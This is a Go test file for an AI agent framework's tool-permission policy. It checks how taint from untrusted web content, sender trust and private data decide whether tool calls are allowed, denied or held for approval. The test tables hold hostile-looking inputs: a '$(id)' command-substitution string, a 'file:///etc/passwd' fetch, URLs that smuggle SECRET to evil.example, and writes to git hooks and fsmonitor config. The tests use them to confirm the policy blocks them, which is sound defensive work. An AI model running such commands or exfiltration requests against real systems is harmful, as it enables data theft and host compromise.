package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/talonclaw/talon/internal/config"
	"github.com/talonclaw/talon/internal/core"
	"github.com/talonclaw/talon/internal/policy"
	"github.com/talonclaw/talon/internal/store"
	"github.com/talonclaw/talon/internal/tools/exectool"
	"github.com/talonclaw/talon/internal/tools/fstools"
	"github.com/talonclaw/talon/internal/tools/sessiontools"
	"github.com/talonclaw/talon/internal/tools/skilltool"
	"github.com/talonclaw/talon/internal/tools/web"
)

// The contract: the real built-in tools plan real calls, and the one
// policy decides on those plans. These tables are the end-to-end form of
// the policy's own rule tables (internal/policy/rules_test.go).

type world struct {
	cfg    *config.Config
	byName map[string]core.Tool
	rules  *policy.Rules
}

func newWorld(t *testing.T, mut func(*config.Config)) *world {
	t.Helper()
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("x\n"), 0o644)
	// A workspace skill: never trusted, so reading it ingests.
	os.MkdirAll(filepath.Join(ws, "skills", "tides"), 0o755)
	os.WriteFile(filepath.Join(ws, "skills", "tides", "SKILL.md"), []byte("---\nname: tides\ndescription: Tide times.\n---\nBody\n"), 0o644)
	cfg := config.Default()
	ls, _ := filepath.EvalSymlinks("/usr/bin/ls")
	cfg.Tools.Exec.Allowlist = []string{ls}
	if mut != nil {
		mut(cfg)
	}
	conf := func() *config.Config { return cfg }
	st, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "t.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	st.EnsureSession(context.Background(), "agent:main:main", store.SessionInit{AgentID: "main"})
	st.EnsureSession(context.Background(), "agent:ops:main", store.SessionInit{AgentID: "ops"})
	w := &world{cfg: cfg, byName: map[string]core.Tool{}, rules: &policy.Rules{Config: conf}}
	for _, tl := range Builtin(Deps{
		FS:       fstools.Options{Workspace: ws},
		Exec:     exectool.Options{Config: conf, Workspace: ws, ExecGuard: func() bool { return true }},
		Fetch:    web.FetchOptions{Config: conf},
		Search:   web.SearchOptions{Config: conf},
		Sessions: sessiontools.Options{Config: conf, Store: st},
		Store:    st,
		Skills:   &skilltool.Library{Workspace: ws, Config: conf},
	}) {
		w.byName[tl.Spec().Name] = tl
	}
	return w
}

func (w *world) decide(actor core.Actor, st policy.SessionState, tool, args string) policy.Decision {
	tl, ok := w.byName[tool]
	req := policy.Request{Actor: actor, State: st, Tool: core.Spec{Name: tool}, Registered: ok, Args: json.RawMessage(args), CallLimit: 25, CallsInTurn: 1}
	if ok {
		req.Tool = tl.Spec()
		req.Plan, req.PlanErr = tl.Plan(context.Background(), core.Call{Args: json.RawMessage(args), Actor: actor})
	}
	return w.rules.Decide(context.Background(), req)
}

var (
	owner    = core.Actor{AgentID: "main", SessionKey: "agent:main:main", SenderID: "owner", Trust: core.TrustOwner}
	stranger = core.Actor{AgentID: "main", SessionKey: "agent:main:telegram:direct:9", SenderID: "telegram:9", Trust: core.TrustUntrusted}
)

// TestInvariant8_TaintEscalates: once untrusted content is in a session,
// anything that changes the host or sends elsewhere needs approval; with
// private data too, every egress does. Whatever the model says.
func TestInvariant8_TaintEscalates(t *testing.T) {
	w := newWorld(t, func(c *config.Config) { c.Tools.Profile = "full" })
	clean := policy.SessionState{}
	tainted := policy.SessionState{Tainted: true, TaintSources: []string{"web_fetch evil.example"}, VisitedHosts: []string{"evil.example"}}
	trifecta := tainted
	trifecta.HoldsPrivate = true
	for _, tc := range []struct {
		name  string
		state policy.SessionState
		tool  string
		args  string
		want  policy.Action
	}{
		{"clean exec allowlisted", clean, "exec", `{"command":"ls"}`, policy.Allow},
		{"tainted exec allowlisted", tainted, "exec", `{"command":"ls"}`, policy.Ask},
		{"tainted exec safe bin", tainted, "exec", `{"command":"wc -l"}`, policy.Allow},
		{"tainted exec denied stays denied", tainted, "exec", `{"command":"$(id)"}`, policy.Deny},
		{"tainted write", tainted, "write", `{"path":"a","content":"x"}`, policy.Ask},
		{"tainted edit", tainted, "edit", `{"path":"a.txt","oldText":"x","newText":"y"}`, policy.Ask},
		{"tainted cron add", tainted, "cron", `{"action":"add","schedule":"@daily","message":"x"}`, policy.Ask},
		{"tainted read", tainted, "read", `{"path":"a"}`, policy.Allow},
		{"tainted process poll", tainted, "process", `{"action":"poll","sessionId":"p1"}`, policy.Allow},
		{"tainted process kill", tainted, "process", `{"action":"kill","sessionId":"p1"}`, policy.Ask},
		{"tainted message other target", tainted, "message", `{"action":"send","target":"x","text":"hi"}`, policy.Ask},
		{"tainted message current conversation", tainted, "message", `{"action":"send","text":"hi"}`, policy.Allow},
		{"tainted sessions_send", tainted, "sessions_send", `{"sessionKey":"agent:main:other","text":"x"}`, policy.Deny}, // not visible
		{"tainted fetch new host", tainted, "web_fetch", `{"url":"https://other.example/"}`, policy.Ask},
		{"tainted fetch visited host with data", tainted, "web_fetch", `{"url":"https://evil.example/?q=SECRET"}`, policy.Ask},
		{"tainted fetch visited host with user info", tainted, "web_fetch", `{"url":"https://SECRET@evil.example/"}`, policy.Ask},
		{"tainted fetch visited host with a fragment", tainted, "web_fetch", `{"url":"https://evil.example/#SECRET"}`, policy.Ask},
		{"tainted fetch visited host in capitals", tainted, "web_fetch", `{"url":"https://EVIL.example/"}`, policy.Allow},
		{"tainted fetch visited host bare", tainted, "web_fetch", `{"url":"https://evil.example/"}`, policy.Allow},
		{"trifecta fetch visited host bare", trifecta, "web_fetch", `{"url":"https://evil.example/"}`, policy.Ask},
		{"trifecta search", trifecta, "web_search", `{"query":"x"}`, policy.Ask},
		{"tainted search", tainted, "web_search", `{"query":"x"}`, policy.Allow},
		{"clean fetch", clean, "web_fetch", `{"url":"https://x.example/?q=1"}`, policy.Allow},
		{"unknown tool", clean, "rm_rf", `{}`, policy.Deny},
		{"fetch of a file URL", clean, "web_fetch", `{"url":"file:///etc/passwd"}`, policy.Deny},
	} {
		d := w.decide(owner, tc.state, tc.tool, tc.args)
		if d.Action != tc.want {
			t.Errorf("%s: got %+v, want %s", tc.name, d, tc.want)
		}
		if d.Action == policy.Ask && tc.state.Tainted && !strings.Contains(d.Reason, "untrusted content from") {
			t.Errorf("%s: approval reason does not name the untrusted source: %q", tc.name, d.Reason)
		}
	}
	w.cfg.Tools.Sessions.Visibility = "all"
	if d := w.decide(owner, tainted, "sessions_send", `{"sessionKey":"agent:ops:main","text":"x"}`); d.Action != policy.Ask {
		t.Errorf("tainted sessions_send to a visible session: %+v", d)
	}
}

func TestSenderTrust(t *testing.T) {
	w := newWorld(t, func(c *config.Config) { c.Tools.Profile = "full" })
	// Reading the owner's files or transcripts for a stranger discloses
	// them in the reply: that needs the owner's approval too.
	for _, tc := range []struct {
		tool, args string
		want       policy.Action
	}{
		{"read", `{"path":"a.txt"}`, policy.Ask},
		{"write", `{"path":"a.txt","content":"x"}`, policy.Ask},
		{"exec", `{"command":"ls"}`, policy.Ask},
		{"web_fetch", `{"url":"https://x.example/"}`, policy.Ask},
		{"cron", `{"action":"add","schedule":"@daily","message":"x"}`, policy.Deny},
		{"sessions_list", `{}`, policy.Ask},
		{"sessions_history", `{"sessionKey":"agent:main:telegram:direct:9"}`, policy.Ask},
		{"message", `{"action":"send","text":"hi"}`, policy.Allow},
	} {
		if d := w.decide(stranger, policy.SessionState{}, tc.tool, tc.args); d.Action != tc.want {
			t.Errorf("untrusted sender %s: %+v, want %s", tc.tool, d, tc.want)
		}
	}
	if d := w.decide(owner, policy.SessionState{}, "cron", `{"action":"add","schedule":"@daily","message":"x"}`); d.Action != policy.Allow {
		t.Errorf("owner cron add: %+v", d)
	}
	if d := w.decide(owner, policy.SessionState{}, "cron", `{"action":"add","schedule":"not cron","message":"x"}`); d.Action != policy.Deny || !d.Invalid {
		t.Errorf("owner cron add with a bad schedule: %+v", d)
	}
}

// TestInvariant5_ProgramConfigWritesNeedApproval: writing a file that
// configures programs (git hooks and config, attributes, rc files) is a
// host-changing action that asks even the owner in an untainted session;
// ordinary files do not. apply_patch is decided on the paths its real
// parser found, the same ones it then writes.
func TestInvariant5_ProgramConfigWritesNeedApproval(t *testing.T) {
	w := newWorld(t, nil)
	for _, tc := range []struct {
		tool string
		args string
		want policy.Action
	}{
		{"write", `{"path":".git/hooks/pre-commit","content":"#!/bin/sh\ntouch /tmp/x"}`, policy.Ask},
		{"write", `{"path":".git/config","content":"[core]\nfsmonitor = touch x"}`, policy.Ask},
		{"write", `{"path":"sub/.GIT/config","content":"x"}`, policy.Ask},
		{"write", `{"path":"./.gitattributes","content":"* filter=x"}`, policy.Ask},
		{"write", `{"path":"/work/ws/.npmrc","content":"x"}`, policy.Ask},
		{"edit", `{"path":"proj/.envrc","oldText":"a","newText":"b"}`, policy.Ask},
		{"edit", `{"path":".vscode/tasks.json","oldText":"a","newText":"b"}`, policy.Ask},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Add File: src/a.go\n+x\n*** Update File: .git/config\n@@\n-a\n+b\n*** End Patch"}`, policy.Ask},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Update File: src/a.go\n*** Move to: .gitmodules\n*** End Patch"}`, policy.Ask},
		{"write", `not json`, policy.Deny},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Frobnicate File: .git/config\n*** End Patch"}`, policy.Deny},
		{"write", `{"path":"src/main.go","content":"package main"}`, policy.Allow},
		{"write", `{"path":"docs/git-notes.md","content":"x"}`, policy.Allow},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Add File: src/a.go\n+x\n*** End Patch"}`, policy.Allow},
	} {
		d := w.decide(owner, policy.SessionState{}, tc.tool, tc.args)
		if d.Action != tc.want {
			t.Errorf("%s %s: %+v, want %s", tc.tool, tc.args, d, tc.want)
		}
		if tc.want == policy.Ask && !strings.Contains(d.Reason, "configures programs") {
			t.Errorf("%s %s: reason %q does not say why", tc.tool, tc.args, d.Reason)
		}
	}
}

func TestPerAgentOverridesOnlyNarrow(t *testing.T) {
	w := newWorld(t, func(c *config.Config) {
		c.Agents.List = []config.AgentOverride{
			{ID: "research", Tools: config.AgentTools{Allow: []string{"group:web", "read", "cron"}}},
			{ID: "main", Tools: config.AgentTools{Deny: []string{"exec"}}},
		}
	})
	research := core.Actor{AgentID: "research", SessionKey: "agent:research:main", Trust: core.TrustOwner}
	for _, tc := range []struct {
		tool, args string
		want       policy.Action
	}{
		{"web_fetch", `{"url":"https://a.example/"}`, policy.Allow},
		{"read", `{"path":"a.txt"}`, policy.Allow},
		{"write", `{"path":"a.txt","content":"x"}`, policy.Deny},
		{"exec", `{"command":"ls"}`, policy.Deny},
		// allowed by the override, but not enabled by the coding profile:
		// overrides cannot widen.
		{"cron", `{"action":"list"}`, policy.Deny},
	} {
		if d := w.decide(research, policy.SessionState{}, tc.tool, tc.args); d.Action != tc.want {
			t.Errorf("research %s: %+v, want %s", tc.tool, d, tc.want)
		}
	}
	if d := w.decide(owner, policy.SessionState{}, "exec", `{"command":"ls"}`); d.Action != policy.Deny || !strings.Contains(d.Reason, "agents.list") {
		t.Errorf("main exec: %+v", d)
	}
	if d := w.decide(owner, policy.SessionState{}, "write", `{"path":"a.txt","content":"x"}`); d.Action != policy.Allow {
		t.Errorf("main write: %+v", d)
	}
}

// TestEveryBuiltinToolPlans: each built-in tool has a group, and plans a
// valid call into a sealed plan of its own name with the effects its kind
// of work has.
func TestEveryBuiltinToolPlans(t *testing.T) {
	w := newWorld(t, nil)
	calls := map[string]struct {
		args string
		has  core.Effect
	}{
		"read": {`{"path":"a.txt"}`, core.ReadsPrivate}, "write": {`{"path":"b","content":""}`, core.WritesHost},
		"edit": {`{"path":"a.txt","oldText":"x","newText":"y"}`, core.WritesHost}, "apply_patch": {`{"patch":"*** Begin Patch\n*** Delete File: a.txt\n*** End Patch"}`, core.WritesHost},
		"exec": {`{"command":"ls"}`, core.Executes}, "process": {`{"action":"list"}`, core.ReadsPrivate},
		"web_fetch": {`{"url":"https://a.example/"}`, core.Egress | core.Ingests}, "web_search": {`{"query":"q"}`, core.Egress | core.Ingests},
		"message":       {`{"action":"send","target":"t","channel":"telegram","text":"x"}`, core.Messages | core.Egress},
		"sessions_list": {`{}`, core.ReadsPrivate}, "sessions_history": {`{"sessionKey":"agent:main:main"}`, core.ReadsPrivate},
		"sessions_send": {`{"sessionKey":"agent:ops:main","text":"x"}`, core.Messages}, "cron": {`{"action":"add","schedule":"@daily","message":"x"}`, core.Persists},
		"skill_read": {`{"name":"tides"}`, core.Ingests},
	}
	if len(calls) != len(w.byName) {
		t.Fatalf("%d built-in tools, %d in this table: add the new tool here", len(w.byName), len(calls))
	}
	for name, tl := range w.byName {
		c, ok := calls[name]
		if !ok {
			t.Errorf("tool %s is not in this table", name)
			continue
		}
		if !strings.HasPrefix(tl.Spec().Group, "group:") || !json.Valid(tl.Spec().Parameters) {
			t.Errorf("%s: spec %+v", name, tl.Spec())
		}
		p, err := tl.Plan(context.Background(), core.Call{Args: json.RawMessage(c.args), Actor: owner})
		if err != nil || p.Tool != name || p.Hash == "" || !p.Has(c.has) || p.Summary == "" {
			t.Errorf("%s: plan %+v %v", name, p, err)
		}
		if _, err := tl.Plan(context.Background(), core.Call{Args: json.RawMessage(`{"x":`), Actor: owner}); err == nil {
			t.Errorf("%s: planned arguments that are not JSON", name)
		}
	}
	if got := len(Catalog()); got != len(calls) {
		t.Errorf("catalog has %d tools", got)
	}
}
